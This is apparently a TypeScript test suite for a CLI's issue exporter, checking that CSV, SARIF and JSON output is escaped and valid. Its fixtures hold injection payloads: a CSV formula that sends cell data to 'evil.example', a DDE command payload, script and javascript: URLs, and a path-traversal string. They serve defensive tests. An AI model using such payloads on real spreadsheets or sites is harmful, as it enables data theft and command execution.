// Issue exports (model/export): CSV read back by a real parser equals the JSON values apart from
// formula prefixes; SARIF is valid against the 2.1.0 schema, with suppressions justified by
// summaries fetched with bounded concurrency, memoised, and falling back with a warning; every
// format is a stream of page-sized chunks that stops paging at the limit.
import { strict as assert } from 'node:assert';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { FixReportSummary, Issue } from '../../../src/api/schemas';
import { CSV_BOM, neutraliseFormula } from '../../../src/model/csv';
import { exportChunks, type ExportOptions, type ExportSource } from '../../../src/model/export/exportIssues';
import { FpSummaries, fallbackSummary } from '../../../src/model/export/fpSummaries';
import { ISSUE_CSV_COLUMNS, issueCsvHeader, issueCsvRow } from '../../../src/model/export/issueCsv';
import { FINGERPRINT_KEY, SRCROOT, sarifLevel } from '../../../src/model/export/sarif';
import { isFalsePositive } from '../../../src/model/issue';
import { issueLocations } from '../../../src/model/locations';
import { observe } from '../../support/evidence';
import { sarifSchemaErrors } from '../../support/sarifSchema';

let serial = 0;
function issue(overrides: Partial<Issue> = {}): Issue {
  serial++;
  return {
    id: `00000000-0000-4000-8000-${String(serial).padStart(12, '0')}`,
    vendorInstanceId: null,
    vendorIssueId: `rule-${serial % 3}`,
    issueType: 'SQL_Injection',
    severity: 'high',
    issueLanguage: 'python',
    state: 'Open',
    createdAt: '2026-10-01T10:00:00.000000+00:00',
    fingerprintHash: `fp${serial}`,
    vulnerabilityReportIssueTags: [],
    fix: null,
    fpId: null,
    fpDescription: null,
    codeNodes: [],
    codeFilePath: null,
    ...overrides,
  };
}

function falsePositive(overrides: Partial<Issue> = {}): Issue {
  return issue({
    state: 'FalsePositive',
    vulnerabilityReportIssueTags: [{ vulnerability_report_issue_tag_value: 'FALSE_POSITIVE' }],
    fpId: `fp-${serial + 1}`,
    fpDescription: `Why issue ${serial + 1} is safe.\n\nIn two paragraphs.`,
    ...overrides,
  });
}

function report(id: string, vendor: string | null, overrides: Partial<FixReportSummary> = {}): FixReportSummary {
  return {
    id,
    createdOn: '2026-10-01T09:00:00.000000+00:00',
    expirationOn: '2026-12-30T09:00:00.000000+00:00',
    createdByUser: null,
    vulnerabilityReport: { vendor, project: { id: 'p1', name: 'Payments' } },
    repo: { name: 'payments-api', originalUrl: 'https://git.example/acme/payments-api', reference: 'main' },
    ...overrides,
  };
}

/** A source over issues in memory, `pageSize` per page; counts the pages handed out. */
function memorySource(byReport: Map<FixReportSummary | null, Issue[]>, pageSize = 2, fpSummary?: ExportSource['fpSummary']) {
  const stats = { pages: 0 };
  const source: ExportSource = {
    reports: [...byReport.keys()],
    async *issuePages(r) {
      const issues = byReport.get(r) ?? [];
      for (let i = 0; i < issues.length; i += pageSize) {
        stats.pages++;
        yield issues.slice(i, i + pageSize);
      }
    },
    fpSummary,
  };
  return { source, stats };
}

async function text(source: ExportSource, format: Parameters<typeof exportChunks>[1], options: ExportOptions = {}): Promise<string> {
  let out = '';
  for await (const chunk of exportChunks(source, format, options)) out += chunk;
  return out;
}

const readCsv = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: false });

/** What each CSV column holds for an issue, read from the issue's JSON (docs/cli.md). */
function jsonProjection(json: Record<string, unknown>, reportId: string | null, vendor: string | null): string[] {
  const s = (v: unknown) => (v === null || v === undefined ? '' : String(v));
  const located = issueLocations(json as unknown as Issue)?.primary;
  const tags = (json.vulnerabilityReportIssueTags as { vulnerability_report_issue_tag_value: string | null }[])
    .map((t) => t.vulnerability_report_issue_tag_value)
    .filter((t) => t)
    .join(';');
  const fix = json.fix as { id?: unknown } | null;
  const row: Record<string, string> = {
    fixReportId: s(reportId),
    vendor: s(vendor),
    falsePositive: String(isFalsePositive(json as unknown as Issue)),
    tags,
    fixId: typeof fix?.id === 'string' ? fix.id : '',
    file: s(located?.path),
    startLine: s(located?.startLine),
    endLine: s(located?.endLine),
    startColumn: s(located?.startColumn),
    endColumn: s(located?.endColumn),
  };
  return ISSUE_CSV_COLUMNS.map((c) => (c in row ? row[c]! : s(json[c])));
}

const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=cmd|"/c calc"!A1'];

describe('issue exports: CSV', () => {
  it('has a stable header: the columns docs/cli.md documents', () => {
    assert.deepEqual(readCsv(issueCsvHeader()), [[...ISSUE_CSV_COLUMNS]]);
    assert.deepEqual(ISSUE_CSV_COLUMNS.slice(0, 3), ['fixReportId', 'vendor', 'id']);
    assert.equal(ISSUE_CSV_COLUMNS.at(-1), 'fpDescription');
  });

  it('reads back equal to the JSON values, apart from the formula prefix, for any text', () => {
    const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...FORMULAS), fc.constant(null));
    fc.assert(
      fc.property(
        fc.record({
          vendorIssueId: text,
          issueType: text,
          severity: text,
          issueLanguage: text,
          fpDescription: text,
          vendorInstanceId: text,
        }),
        fc.constantFrom<string | null>(null, 'semgrep', '=evil'),
        (fields, vendor) => {
          const subject = issue({
            ...fields,
            codeNodes: [{ path: 'a b/#x.py', startLine: 3, endLine: 3, startCol: null, endCol: null, index: 0 }],
          });
          const [row] = readCsv(issueCsvRow(subject, { id: 'r1', vendor }));
          const json = JSON.parse(JSON.stringify(subject)) as Record<string, unknown>;
          assert.deepEqual(row, jsonProjection(json, 'r1', vendor).map(neutraliseFormula));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('neutralises a formula start in every text column and never in our numbers', () => {
    for (const formula of FORMULAS) {
      const subject = falsePositive({
        vendorIssueId: formula,
        issueType: formula,
        severity: formula,
        issueLanguage: formula,
        fingerprintHash: formula,
        vendorInstanceId: formula,
        fpDescription: formula,
        vulnerabilityReportIssueTags: [{ vulnerability_report_issue_tag_value: formula }],
        codeNodes: [{ path: '-x.py', startLine: 7, endLine: 9, startCol: 1, endCol: 4, index: 0 }],
      });
      const [row] = readCsv(issueCsvRow(subject, { id: 'r1', vendor: formula }));
      const cell = (name: string) => row![ISSUE_CSV_COLUMNS.indexOf(name)]!;
      for (const name of [
        'vendor',
        'vendorIssueId',
        'issueType',
        'severity',
        'issueLanguage',
        'fingerprintHash',
        'vendorInstanceId',
        'fpDescription',
        'tags',
      ])
        assert.equal(cell(name), `'${formula}`, `${name} of ${JSON.stringify(formula)}`);
      assert.equal(cell('file'), `'-x.py`, 'a path is server text too');
      assert.deepEqual([cell('startLine'), cell('endLine'), cell('startColumn'), cell('endColumn')], ['7', '9', '1', '4']);
      assert.equal(cell('falsePositive'), 'true');
    }
  });

  it('streams a header and a chunk per page, with a BOM only when asked, and the report in each row', async () => {
    const issues = [issue(), falsePositive(), issue()];
    const { source } = memorySource(new Map([[report('r1', 'semgrep'), issues]]));
    const plain = await text(source, 'csv');
    assert.ok(plain.startsWith('fixReportId,vendor,id,'), 'no BOM by default');
    const bom = await text(source, 'csv', { bom: true });
    assert.equal(bom, CSV_BOM + plain);
    const rows = readCsv(plain);
    assert.equal(rows.length, 4);
    assert.deepEqual(
      rows.slice(1).map((r) => [r[0], r[1], r[2]]),
      issues.map((i) => ['r1', 'semgrep', i.id]),
    );
    const chunks: string[] = [];
    for await (const chunk of exportChunks(source, 'csv')) chunks.push(chunk);
    assert.equal(chunks.length, 3, 'the header, then one chunk per page of two');
  });

  it('leaves fixReportId and vendor empty for the unfiltered listing', async () => {
    const { source } = memorySource(new Map([[null, [issue()]]]));
    const [, row] = readCsv(await text(source, 'csv'));
    assert.deepEqual(row!.slice(0, 2), ['', '']);
  });

  it('escapes unsafe characters in cells for a terminal, and only then', async () => {
    const subject = issue({ issueType: 'SQL\u202eInjection', fpDescription: 'line\nbreak\u001b[31m' });
    const { source } = memorySource(new Map([[null, [subject]]]));
    const forFile = readCsv(await text(source, 'csv'))[1]!;
    assert.equal(forFile[ISSUE_CSV_COLUMNS.indexOf('issueType')], 'SQL\u202eInjection');
    const forTerminal = await text(source, 'csv', { escapeText: true });
    assert.ok(!/[\u202e\u001b]/.test(forTerminal));
    assert.equal(forTerminal.split('\r\n').length, 3, 'no line break of the text starts a line');
    assert.match(forTerminal, /SQL\\u202eInjection/);
  });

  it('applies the filter and the limit over all reports and stops paging at the limit', async () => {
    const a = [issue(), falsePositive(), issue(), falsePositive()];
    const b = [falsePositive(), falsePositive(), falsePositive(), falsePositive()];
    const { source, stats } = memorySource(
      new Map([
        [report('ra', 'snyk'), a],
        [report('rb', 'snyk'), b],
      ]),
    );
    const rows = readCsv(await text(source, 'csv', { filter: isFalsePositive, limit: 3 })).slice(1);
    assert.deepEqual(
      rows.map((r) => r[2]),
      [a[1]!.id, a[3]!.id, b[0]!.id],
    );
    assert.equal(stats.pages, 3, 'the second report is paged only as far as needed');
  });
});

describe('issue exports: SARIF', () => {
  const hostileReport = report('r-2', '\u202eevil/vendor', { repo: { name: 'x', originalUrl: 'javascript:alert(1)', reference: null } });

  function dataset() {
    const r1 = report('r-1', 'semgrep');
    const issues1 = [
      issue({
        codeNodes: [
          { path: 'app/api.py', startLine: 3, endLine: 3, startCol: 1, endCol: 9, index: 0 },
          { path: 'app/db.py', startLine: 14, endLine: 14, startCol: 5, endCol: 40, index: 1 },
        ],
      }),
      falsePositive({ codeFilePath: 'src/my file#1.py' }),
      falsePositive({ codeNodes: [{ path: '../../etc/passwd', startLine: 1, endLine: 1, startCol: null, endCol: null, index: 0 }] }),
      issue({ vendorIssueId: null, fingerprintHash: null, severity: null, issueType: null }),
    ];
    const issues2 = [
      falsePositive({ issueType: '<script>alert(1)</script>\r\n', fpDescription: 'x'.repeat(400), fpId: 'shared' }),
      falsePositive({ fpId: 'shared' }),
      issue({ vendorIssueId: '\u001b[31mrule', severity: 'medium', codeFilePath: 'C:\\Windows\\evil.dll' }),
    ];
    return new Map<FixReportSummary | null, Issue[]>([
      [r1, issues1],
      [hostileReport, issues2],
    ]);
  }

  it('is a valid SARIF 2.1.0 log: one run per report, the scanner as the tool, a result per issue', async () => {
    const byReport = dataset();
    const fetched: string[] = [];
    const { source } = memorySource(byReport, 2, async (fpId) => (fetched.push(fpId), `Summary of ${fpId}`));
    const log = JSON.parse(await text(source, 'sarif', { converter: { name: 'security-fix-reports', version: '9.9.9' } })) as SarifLog;
    assert.deepEqual(sarifSchemaErrors(log), []);
    assert.equal(log.version, '2.1.0');
    assert.equal(log.runs.length, 2);
    const [run1, run2] = log.runs as [SarifRun, SarifRun];
    assert.equal(run1.tool.driver.name, 'semgrep');
    assert.equal(run1.automationDetails.id, 'security-fix-reports/semgrep/r-1');
    assert.equal(
      run2.automationDetails.id,
      'security-fix-reports/-evil-vendor/r-2',
      'the category has no "/" or unsafe character from the vendor',
    );
    assert.equal(run2.tool.driver.name, '\u202eevil/vendor', 'the scanner name as sent, inside a JSON string');
    assert.deepEqual(run1.conversion, { tool: { driver: { name: 'security-fix-reports', version: '9.9.9' } } });
    assert.ok(run1.originalUriBaseIds[SRCROOT], 'SRCROOT is described');
    assert.equal(run1.versionControlProvenance?.[0]?.repositoryUri, 'https://git.example/acme/payments-api');
    assert.equal(run2.versionControlProvenance, undefined, 'no javascript: repository URI');
    assert.equal(run1.properties.fixReportId, 'r-1');

    const [dataflow, spaced, outside, bare] = run1.results as [SarifResult, SarifResult, SarifResult, SarifResult];
    const issues1 = [...byReport.values()][0]!;
    assert.equal(dataflow.ruleId, issues1[0]!.vendorIssueId);
    assert.equal(dataflow.level, 'error');
    assert.deepEqual(dataflow.partialFingerprints, { [FINGERPRINT_KEY]: issues1[0]!.fingerprintHash });
    assert.deepEqual(dataflow.locations, [
      {
        physicalLocation: {
          artifactLocation: { uri: 'app/db.py', uriBaseId: 'SRCROOT' },
          region: { startLine: 14, endLine: 14, startColumn: 5, endColumn: 40 },
        },
      },
    ]);
    assert.equal(dataflow.codeFlows?.[0]?.threadFlows[0]?.locations.length, 2, 'the trace, source to sink');
    assert.equal(dataflow.suppressions, undefined);
    assert.equal(spaced.locations?.[0]?.physicalLocation.artifactLocation.uri, 'src/my%20file%231.py');
    assert.equal(outside.locations, undefined, 'a path safeRepoPath refuses is left out');
    assert.deepEqual(outside.suppressions, [
      { kind: 'external', status: 'accepted', justification: `Summary of ${issues1[2]!.fpId}`, properties: { fpId: issues1[2]!.fpId } },
    ]);
    assert.equal(outside.properties.state, 'FalsePositive');
    assert.equal(outside.properties.fpDescription, issues1[2]!.fpDescription);
    assert.equal(bare.ruleId, undefined);
    assert.equal(bare.partialFingerprints, undefined);
    assert.equal(bare.level, 'note');
    assert.equal(bare.message.text, 'Unknown issue type');
    assert.deepEqual(fetched.sort(), [issues1[1]!.fpId, issues1[2]!.fpId, 'shared'].sort(), 'one request per fpId (memoised)');
  });

  it('writes a page of results in pieces of about 32K characters, never one string per page (a 1,000-issue page is ~1 MB)', async () => {
    const page = Array.from({ length: 1_000 }, () => issue({ codeFilePath: 'app/db.py' }));
    const { source } = memorySource(new Map([[report('r-big', 'semgrep'), page]]), 1_000);
    const chunks: string[] = [];
    for await (const chunk of exportChunks(source, 'sarif', { fpSummaries: false })) chunks.push(chunk);
    const longestResult = Math.max(
      ...chunks
        .join('')
        .split('\n')
        .map((line) => line.length),
    );
    const longest = Math.max(...chunks.map((c) => c.length));
    assert.ok(longest < 32_768 + longestResult + 2, `the longest piece is ${longest} characters`);
    assert.ok(chunks.length > 10, `${chunks.length} pieces for one page`);
    const log = JSON.parse(chunks.join('')) as { runs: { results: unknown[] }[] };
    assert.equal(log.runs[0]!.results.length, 1_000, 'the pieces make the whole log');
  });

  it('writes server text only as JSON strings, with unsafe characters escaped as in jsonl', async () => {
    const { source } = memorySource(dataset(), 2, async () => 'Safe \u202e summary');
    const raw = await text(source, 'sarif');
    assert.ok(!/[\u0000-\u0009\u000b-\u001f\u202e]/.test(raw), 'no raw control or bidi character');
    assert.ok(!raw.includes('"markdown"'));
    assert.deepEqual(sarifSchemaErrors(JSON.parse(raw)), []);
  });

  it('falls back to the first 280 code points of fpDescription when a summary fails, with a warning', async () => {
    const warnings: string[] = [];
    const long = '😀'.repeat(300);
    const fp = falsePositive({ fpDescription: long });
    const { source } = memorySource(new Map([[report('r', 'snyk'), [fp]]]), 2, async () => {
      throw new Error('HTTP 503');
    });
    const log = JSON.parse(await text(source, 'sarif', { warn: (m) => warnings.push(m) })) as SarifLog;
    const justification = log.runs[0]!.results[0]!.suppressions![0]!.justification;
    assert.equal(justification, '😀'.repeat(280));
    assert.equal(warnings.length, 1);
    assert.match(warnings[0]!, new RegExp(`${fp.fpId}.*HTTP 503.*first 280 characters`));
    observe(`summary failure → ${warnings[0]}`);
  });

  it('makes no summary request with fpSummaries off, and justifies from fpDescription', async () => {
    let calls = 0;
    const fp = falsePositive();
    const { source } = memorySource(new Map([[report('r', 'snyk'), [fp]]]), 2, async () => (calls++, 'x'));
    const log = JSON.parse(await text(source, 'sarif', { fpSummaries: false })) as SarifLog;
    assert.equal(calls, 0);
    assert.equal(log.runs[0]!.results[0]!.suppressions![0]!.justification, fp.fpDescription);
  });

  it('writes an empty log for no reports, and an empty run for a report without issues', async () => {
    assert.deepEqual(JSON.parse(await text(memorySource(new Map()).source, 'sarif')), {
      $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
      version: '2.1.0',
      runs: [],
    });
    const empty = JSON.parse(await text(memorySource(new Map([[report('r', null), []]])).source, 'sarif')) as SarifLog;
    assert.deepEqual(sarifSchemaErrors(empty), []);
    assert.deepEqual(empty.runs[0]!.results, []);
    assert.equal(empty.runs[0]!.tool.driver.name, 'unknown');
  });

  it('maps severities onto SARIF levels by the editor table', () => {
    assert.deepEqual(['critical', 'High', 'medium', 'low', 'info', 'weird', null].map(sarifLevel), [
      'error',
      'error',
      'warning',
      'note',
      'note',
      'note',
      'note',
    ]);
  });

  it('the schema check itself rejects an invalid log', () => {
    assert.notDeepEqual(
      sarifSchemaErrors({
        version: '2.1.0',
        runs: [{ tool: { driver: { name: 'x' } }, results: [{ level: 'fatal', message: { text: 'x' } }] }],
      }),
      [],
    );
    assert.notDeepEqual(sarifSchemaErrors({ version: '2.0.0', runs: [] }), []);
  });
});

describe('false-positive summaries', () => {
  it('keep at most `concurrency` requests in flight, fetch each fpId once, and remember it', async () => {
    let inFlight = 0;
    let peak = 0;
    const calls: string[] = [];
    const summaries = new FpSummaries({
      concurrency: 3,
      fetch: async (fpId) => {
        calls.push(fpId);
        peak = Math.max(peak, ++inFlight);
        await new Promise((resolve) => setTimeout(resolve, 5));
        inFlight--;
        return `summary ${fpId}`;
      },
    });
    const page = Array.from({ length: 20 }, (_, i) => falsePositive({ fpId: `fp${i % 10}` }));
    await summaries.load(page);
    await summaries.load(page);
    assert.equal(peak, 3);
    assert.equal(calls.length, 10, 'ten distinct fpIds, each fetched once over two pages');
    assert.equal(summaries.justification(page[3]!), 'summary fp3');
  });

  it('forget the oldest beyond the memo size (constant memory)', async () => {
    const calls: string[] = [];
    const summaries = new FpSummaries({ memoSize: 2, fetch: async (fpId) => (calls.push(fpId), fpId) });
    for (const id of ['a', 'b', 'c', 'a']) await summaries.load([falsePositive({ fpId: id })]);
    assert.deepEqual(calls, ['a', 'b', 'c', 'a']);
  });

  it('warn for the first five failures one by one and count the rest', async () => {
    const warnings: string[] = [];
    const summaries = new FpSummaries({ warn: (m) => warnings.push(m), fetch: () => Promise.reject(new Error('down')) });
    await summaries.load(Array.from({ length: 8 }, (_, i) => falsePositive({ fpId: `f${i}` })));
    summaries.finish();
    assert.equal(warnings.length, 6);
    assert.match(warnings[5]!, /^3 more false-positive summaries could not be fetched/);
  });

  it('rethrow once cancelled instead of falling back', async () => {
    const controller = new AbortController();
    const summaries = new FpSummaries({
      signal: controller.signal,
      fetch: () => (controller.abort(), Promise.reject(new Error('cancelled'))),
    });
    await assert.rejects(summaries.load([falsePositive()]), /cancelled/);
  });

  it('fall back to the first 280 code points, never splitting a surrogate pair', () => {
    assert.equal(fallbackSummary({ fpDescription: null }), '');
    assert.equal(fallbackSummary({ fpDescription: 'short' }), 'short');
    assert.equal(Array.from(fallbackSummary({ fpDescription: `${'a'.repeat(279)}😀😀` })).length, 280);
    assert.ok(fallbackSummary({ fpDescription: `${'a'.repeat(279)}😀😀` }).endsWith('😀'));
  });
});

describe('issue exports: JSON', () => {
  it('writes the bytes of the CLI: a JSON array and JSON Lines of the issues, escaped', async () => {
    const issues = [issue({ issueType: 'a\u202eb' }), falsePositive()];
    const { source } = memorySource(new Map([[report('r', 'snyk'), issues]]));
    const json = await text(source, 'json');
    assert.deepEqual(JSON.parse(json), JSON.parse(JSON.stringify(issues)));
    assert.match(json, /^\[\n\{.*\},\n\{.*\}\n\]\n$/s);
    assert.ok(!json.includes('\u202e'));
    const jsonl = await text(source, 'jsonl');
    assert.deepEqual(
      jsonl
        .trimEnd()
        .split('\n')
        .map((l) => JSON.parse(l) as unknown),
      JSON.parse(JSON.stringify(issues)),
    );
    assert.equal(await text(memorySource(new Map([[null, []]])).source, 'json'), '[]\n');
  });
});

interface SarifResult {
  ruleId?: string;
  level: string;
  message: { text: string };
  locations?: { physicalLocation: { artifactLocation: { uri: string; uriBaseId: string }; region?: object } }[];
  codeFlows?: { threadFlows: { locations: unknown[] }[] }[];
  partialFingerprints?: Record<string, string>;
  suppressions?: { kind: string; status: string; justification?: string; properties?: { fpId: string } }[];
  properties: Record<string, unknown>;
}
interface SarifRun {
  tool: { driver: { name: string; fullName?: string } };
  conversion: unknown;
  automationDetails: { id: string };
  originalUriBaseIds: Record<string, unknown>;
  versionControlProvenance?: { repositoryUri: string }[];
  properties: Record<string, unknown>;
  results: SarifResult[];
}
interface SarifLog {
  version: string;
  runs: SarifRun[];
}
